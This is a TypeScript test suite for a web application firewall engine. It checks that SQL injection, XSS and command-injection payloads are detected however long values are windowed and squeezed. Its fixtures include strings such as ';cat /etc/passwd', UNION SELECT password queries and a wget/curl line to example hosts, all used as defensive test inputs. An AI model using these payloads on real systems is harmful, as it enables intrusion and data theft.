import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Worker } from 'node:worker_threads';
import fc from 'fast-check';
import {
  CONTEXT_RUNS,
  charsetOf,
  emptyInputs,
  type Inputs,
  inspect,
  MAX_SPAN,
  spent,
  squeeze,
  startClock,
  threadClock,
  windows,
} from './engine.js';

const BUDGET = 60_000_000;

const LOREM =
  'Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore ' +
  'et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut ' +
  'aliquip ex ea commodo consequat. Duis aute irure dolor in reprehenderit in voluptate velit esse cillum ' +
  'dolore eu fugiat nulla pariatur. Excepteur sint occaecat cupidatat non proident, sunt in culpa qui ' +
  'officia deserunt mollit anim id est laborum.\n';

/** `unit` repeated to `length` UTF-16 units. */
function filler(unit: string, length: number): string {
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}

/** Deterministic pseudo-random bytes as base64, `length` characters. */
function base64(length: number): string {
  const bytes = Buffer.alloc(Math.ceil((length * 3) / 4));
  let x = 2463534242;
  for (let i = 0; i < bytes.length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    bytes[i] = x & 0xff;
  }
  return bytes.toString('base64').slice(0, length);
}

function body(...texts: string[]): Inputs {
  const inputs = emptyInputs();
  inputs.args = texts.map((text, i) => ({ location: ['body', 'notes', String(i)], text }));
  return inputs;
}

/** `payload` inside `text` at `offset`, with a space either side so it starts and ends a word. */
function insert(text: string, offset: number, payload: string): string {
  return `${text.slice(0, offset)} ${payload} ${text.slice(offset)}`;
}

function locations(inputs: Inputs): string[] {
  const result = inspect(inputs, { paranoiaLevel: 1, budgetMicros: BUDGET });
  assert.equal(result.timedOut, false);
  return [...new Set(result.detections.map((d) => d.location))];
}

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

/** Whether a cut before `text[i]` would split a surrogate pair. */
function splitsPair(text: string, i: number): boolean {
  return /[\uD800-\uDBFF]/.test(text.charAt(i - 1)) && /[\uDC00-\uDFFF]/.test(text.charAt(i));
}

const UTF8 = new TextEncoder();
const bytes = (s: string) => UTF8.encode(s).length;

describe('a long value has no blind spot', () => {
  const padded = `x' OR${' '.repeat(800)}'1'='1`;
  const offsets = [0, 1000, 3000, 4095, 4096, 8000, 100_000];

  for (const [name, text] of [
    ['lorem ipsum', filler(LOREM, 200_000)],
    ['base64', base64(200_000)],
  ] as const) {
    it(`finds a payload padded with 800 spaces at any offset of 200 KB of ${name}`, () => {
      for (const offset of offsets) {
        assert.deepEqual(
          locations(body(insert(text, offset, padded))),
          ['/body/notes/0'],
          `offset ${offset}`,
        );
      }
    });
  }

  it(`finds a payload of ${MAX_SPAN} bytes that squeezing cannot shorten, wherever the window edges fall`, () => {
    // A comment with text in it is not padding: the payload is MAX_SPAN bytes however it is windowed.
    const payload = `union/*${'a'.repeat(MAX_SPAN - 'union/**/select'.length)}*/select`;
    assert.equal(bytes(payload), MAX_SPAN);
    const text = filler(LOREM, 9_000);
    // Windows of plain ASCII advance by a little over 2000 bytes: every alignment of the payload
    // against the edges of the first three windows.
    for (let offset = 0; offset < 6_500; offset += 41) {
      assert.deepEqual(locations(body(insert(text, offset, payload))), ['/body/notes/0'], `offset ${offset}`);
    }
  });

  it('finds a URL-escaped payload that a window edge cuts through', () => {
    const payload = 'x%27%20OR%20%271%27%3D%271';
    const text = filler(LOREM, 9_000);
    // The first window of ASCII text ends at 4090 bytes (room for the edge marks): cut each escape there.
    for (let offset = 4090 - payload.length - 2; offset <= 4091; offset++) {
      assert.deepEqual(locations(body(insert(text, offset, payload))), ['/body/notes/0'], `offset ${offset}`);
    }
  });

  it('finds a payload among multi-byte text, and never splits a character', () => {
    const text = filler('漢字かなカナ한글 😀 émoji ', 60_000);
    for (const offset of [0, 1000, 1400, 2900, 4095, 20_000]) {
      assert.deepEqual(locations(body(insert(text, offset, padded))), ['/body/notes/0'], `offset ${offset}`);
    }
    for (const w of windows(text)) {
      assert.ok(bytes(w) <= 4096);
      assert.ok(!LONE_SURROGATE.test(w), 'a surrogate pair was split');
    }
  });

  it('names the leaf the payload is in, among many windows', () => {
    const benign = filler(LOREM, 600_000);
    assert.ok(windows(benign).length > 256);
    assert.deepEqual(locations(body(benign, insert(benign, 500_000, padded), 'ok')), ['/body/notes/1']);
  });

  it('does not take a window edge for the end of the value', () => {
    // `\nid est` at the very end of a value looks like a shell command; in the middle it does not.
    // (Portcullis's end-anchored rule; CRS 932100 matches `\nid` anywhere, so it is left out here.)
    const anchored = (inputs: Inputs) =>
      inspect(inputs, { paranoiaLevel: 1, budgetMicros: BUDGET })
        .detections.filter((d) => d.rule.startsWith('pc-'))
        .map((d) => d.location);
    assert.deepEqual([...new Set(anchored(body('lorem ipsum\nid est')))], ['/body/notes/0']);
    const head = filler(LOREM.replaceAll('\n', ' '), 4090 - '\nid est'.length);
    // The first window of ASCII text ends at 4090 bytes: right after `est`.
    assert.deepEqual(anchored(body(`${head}\nid est ${filler(LOREM, 10_000)}`)), []);
  });

  it('does not flag 200 KB of lorem ipsum, base64 or indented JSON text', () => {
    assert.deepEqual(locations(body(filler(LOREM, 200_000))), []);
    assert.deepEqual(locations(body(base64(200_000))), []);
    const json = JSON.stringify(
      { items: Array.from({ length: 2000 }, (_, i) => ({ id: i, note: 'ok' })) },
      null,
      8,
    );
    assert.ok(json.length > 200_000);
    assert.deepEqual(locations(body(json)), []);
  });
});

describe('the rule sets by target', () => {
  // Each request's values are new (`n`), so no cached value stands in for a run.
  let n = 0;
  const fresh = (text: string) => `${text} ${++n}`;
  /** An attack in one target, with new benign values of other targets beside it or not. */
  const placements: { target: keyof Inputs; location: string[]; attack: string }[] = [
    { target: 'args', location: ['query', 'q'], attack: "1' OR '1'='1" },
    {
      target: 'args_names',
      location: ['query', "x' UNION SELECT password FROM users--"],
      attack: "x' UNION SELECT password FROM users--",
    },
    { target: 'headers', location: ['header', 'x-note'], attack: '<script>alert(1)</script>' },
    { target: 'cookies', location: ['cookie', 'session'], attack: ';cat /etc/passwd' },
  ];
  const company: [keyof Inputs, string[], string][] = [
    // Each value is handed over (none is PLAIN without words), so each brings its shard into the run.
    ['args', ['body', 'comment'], 'Leave it at the door, please!'],
    ['args_names', ['body', 'comment'], 'comment'],
    ['headers', ['header', 'accept-language'], 'en-GB,en;q=0.9'],
    ['cookies', ['cookie', 'theme'], 'dark/large'],
  ];
  for (const p of placements) {
    it(`finds an attack in ${p.target}, alone and beside new values of other targets, with cookies or without`, () => {
      for (const beside of ['nothing', 'every other target', 'the other targets but cookies']) {
        const inputs = emptyInputs();
        inputs[p.target].push({ location: p.location, text: fresh(p.attack) });
        if (beside !== 'nothing')
          for (const [target, location, text] of company)
            if (target !== p.target && (beside === 'every other target' || target !== 'cookies'))
              inputs[target].push({ location, text: fresh(text) });
        assert.ok(locations(inputs).includes(`/${p.location.join('/')}`), `beside ${beside}`);
      }
    });
  }

  it('finds nothing in the benign values alone, each target by itself, all but cookies, or all together', () => {
    const all = emptyInputs();
    const allButCookies = emptyInputs();
    for (const [target, location, text] of company) {
      const one = emptyInputs();
      one[target].push({ location, text: fresh(text) });
      all[target].push({ location, text: fresh(text) });
      if (target !== 'cookies') allButCookies[target].push({ location, text: fresh(text) });
      assert.deepEqual(locations(one), []);
    }
    assert.deepEqual(locations(allButCookies), []);
    assert.deepEqual(locations(all), []);
  });
});

/**
 * The engine keeps a libddwaf context per rule set between inspections (`runEngine`), for at most
 * CONTEXT_RUNS runs, and drops it after a run that found something or ran out of time: what it finds
 * must not depend on what the context ran before.
 */
describe('the contexts kept between inspections', () => {
  let n = 0;
  const attacks: [keyof Inputs, string][] = [
    ['args', "1' OR '1'='1"],
    ['args', '<script>alert(1)</script>'],
    ['args', ';cat /etc/passwd'],
    ['headers', "x' UNION SELECT password FROM users--"],
  ];
  /** A request of new values (so no cached value stands in for a run), with `attack` or not. */
  const request = (attack?: [keyof Inputs, string]) => {
    const inputs = emptyInputs();
    n++;
    inputs.args.push({ location: ['body', 'name'], text: `Seán O'Brien ${n}` });
    inputs.args.push({ location: ['body', 'note'], text: `Leave it at the door, please! ${n}` });
    inputs.headers.push({ location: ['header', 'accept-language'], text: `en-GB,en;q=0.${n}` });
    if (attack !== undefined)
      inputs[attack[0]].push({ location: ['x', 'attack'], text: `${attack[1]} ${n}` });
    return inputs;
  };
  const rules = (inputs: Inputs, budgetMicros = BUDGET) =>
    [...new Set(inspect(inputs, { paranoiaLevel: 1, budgetMicros }).detections.map((d) => d.rule))].sort();

  it('find the same rules in every attack and nothing in ordinary values, over more runs than one context serves', () => {
    const first = attacks.map((a) => rules(request(a)));
    for (const found of first) assert.ok(found.length > 0);
    for (let i = 0; i < 2 * CONTEXT_RUNS + 5; i++) {
      if (i % 97 === 96) {
        const a = Math.floor(i / 97) % attacks.length;
        assert.deepEqual(rules(request(attacks[a])), first[a], `run ${i}`);
      } else assert.deepEqual(rules(request()), [], `run ${i}`);
    }
  });

  it('find an attack right after a run that ran out of time', () => {
    const expected = rules(request(attacks[0]));
    const cut = inspect(request(attacks[1]), { paranoiaLevel: 1, budgetMicros: 1 });
    assert.equal(cut.timedOut, true);
    assert.deepEqual(rules(request(attacks[0])), expected);
    assert.deepEqual(rules(request()), []);
  });
});

/**
 * The rules whose regex runs in pieces (`engine.ts`, SPLIT): each piece is a rule of its own in
 * libddwaf, and what it finds is reported as the rule, once per value, as the reference engine
 * (the regex whole) reports it.
 */
describe('a rule whose regex runs in pieces', () => {
  const detections = (text: string, reference: boolean, paranoiaLevel = 1) => {
    const inputs = emptyInputs();
    inputs.args.push({ location: ['query', 'q'], text });
    return inspect(inputs, { paranoiaLevel, budgetMicros: BUDGET, reference }).detections.map(
      (d) => `${d.rule} ${d.location}`,
    );
  };

  it('is reported once, under its own id, when several of its pieces match one value', () => {
    // Both alternatives of pc-cmdi-320: a command after ";" and one after "&&" on a new line.
    const found = detections('; wget http://a.example/x\n&& curl http://b.example/y', false);
    assert.deepEqual(
      found.filter((d) => d.startsWith('pc-cmdi-320 ')),
      ['pc-cmdi-320 /query/q'],
    );
    assert.deepEqual(
      found.sort(),
      detections('; wget http://a.example/x\n&& curl http://b.example/y', true).sort(),
    );
  });

  it('fires where the whole regex fires, on attacks and ordinary values, at paranoia levels 1 and 2', () => {
    for (const text of [
      '<img src=x onerror=alert(1)>',
      '"onmouseover="alert(1)',
      "<a href='x' ondblclick='go()'>",
      "1' AND ascii(substring(version(),1,1))>51--",
      'x" or instr(@@version,0x35)="1',
      '; cat /etc/passwd',
      "O'Brien's <b>bold</b> idea",
      'Meet me at 5 & bring the deck',
    ])
      for (const level of [1, 2]) {
        const planned = detections(text, false, level);
        assert.ok(
          planned.every((d) => !/^\S+\/\d+ /.test(d)),
          planned.join(),
        );
        assert.deepEqual(planned.sort(), detections(text, true, level).sort(), `${text} at ${level}`);
      }
  });
});

describe('windows', () => {
  /** Each window's place in the squeezed text, checked to be a contiguous slice of it. */
  function spans(text: string): { start: number; end: number }[] {
    const squeezed = squeeze(text);
    const out: { start: number; end: number }[] = [];
    let from = 0;
    for (const w of windows(text)) {
      const inner = w.replace(/^\uFFFD/, '').replace(/\uFFFD$/, '');
      const start = squeezed.indexOf(inner, from);
      assert.ok(start >= 0);
      out.push({ start, end: start + inner.length });
      from = start + 1;
    }
    return out;
  }

  it('leaves a string that fits the engine as it is', () => {
    const text = `a${' '.repeat(4000)}b`;
    assert.deepEqual(windows(text), [text]);
  });

  it('of prose keep its charset, so only the rules that can match prose read them', () => {
    // The cut mark (U+FFFD) is in WORDS and LETTERS: without it every window of a long value was
    // read by every rule (10,000 characters of English prose cost 7.3 ms of CPU instead of 4.2).
    const prose = LOREM.replace(/\n/g, ' ').repeat(50);
    assert.ok(windows(prose).length > 5);
    for (const w of windows(prose)) assert.equal(charsetOf(w, 1), 'words');
    for (const w of windows(prose.replace(/, /g, ' (sic) '))) assert.equal(charsetOf(w, 1), 'letters');
    assert.equal(charsetOf(prose.slice(0, 1000), 1), 'plain');
  });

  it('squeezes a long string before cutting it, and one that then fits is not cut', () => {
    const text = `x' OR${' '.repeat(100_000)}'1'='1`;
    assert.deepEqual(windows(text), ["x' OR '1'='1"]);
  });

  it('cover the text with windows of at most 4096 bytes sharing at least MAX_SPAN bytes', () => {
    const unit = fc.constantFrom('a', ' ', '\n', 'é', '漢', '😀', '%27', '/**/', '\uD800');
    fc.assert(
      fc.property(fc.array(unit, { minLength: 1500, maxLength: 12_000 }), (units) => {
        const text = units.join('');
        const squeezed = squeeze(text);
        const ws = windows(text);
        for (const w of ws) assert.ok(bytes(w) <= 4096, `${bytes(w)} bytes`);
        if (ws.length === 1) return;
        const s = spans(text);
        assert.equal(s[0]!.start, 0);
        assert.equal(s.at(-1)!.end, squeezed.length);
        for (let i = 1; i < s.length; i++) {
          assert.ok(s[i]!.start > s[i - 1]!.start);
          assert.ok(
            !splitsPair(squeezed, s[i]!.start) && !splitsPair(squeezed, s[i - 1]!.end),
            'split a pair',
          );
          const shared = squeezed.slice(s[i]!.start, s[i - 1]!.end);
          assert.ok(bytes(shared) >= MAX_SPAN, `windows ${i - 1} and ${i} share ${bytes(shared)} bytes`);
        }
      }),
      { numRuns: 60 },
    );
  });
});

describe('squeeze', () => {
  it('keeps one of each kind of padding in a run, in order', () => {
    assert.equal(squeeze('a \t\t  \n\n b'), 'a \t\nb');
    assert.equal(squeeze('a\r\n\r\n\r\nb'), 'a\r\nb');
    assert.equal(squeeze('union/**//**//**/select'), 'union/**/select');
    assert.equal(squeeze('x%20%20%0a%0A%20y'), 'x%20%0a%0Ay');
    assert.equal(squeeze('a\0\0\0b'), 'a\0b');
  });

  it('leaves single padding, comments with text and ordinary text alone', () => {
    for (const text of ['a b', '/*!50000union*/ select', 'x/* a */y', '%2520%2520', 'a%20b']) {
      assert.equal(squeeze(text), text);
    }
  });
});

describe('the inspection budget clock', () => {
  it('counts the CPU of the thread that inspects, not of other threads of the process', {
    skip: threadClock === undefined ? 'no per-thread CPU clock here (/proc/thread-self/schedstat)' : false,
  }, async () => {
    // Another thread burns CPU (as the garbage collector's and the compiler's do under load)
    // while this one waits without running: 100 ms of wall time and of process CPU, almost no
    // CPU of this thread. process.cpuUsage() counted it all and refused ordinary requests.
    const worker = new Worker('const end = Date.now() + 200; while (Date.now() < end);', { eval: true });
    await new Promise((r) => setTimeout(r, 10));
    const clock = startClock();
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 100);
    const used = spent(clock, 1_000);
    await worker.terminate();
    assert.ok(used < 10_000, `counted ${used} µs for a thread that waited 100 ms`);
    const busy = startClock();
    const end = performance.now() + 30;
    while (performance.now() < end);
    // Even on a loaded machine a thread that runs for 30 ms gets more than 1 ms of CPU.
    assert.ok(spent(busy, 1_000) > 1_000, 'a thread that runs counts its own CPU');
  });
});
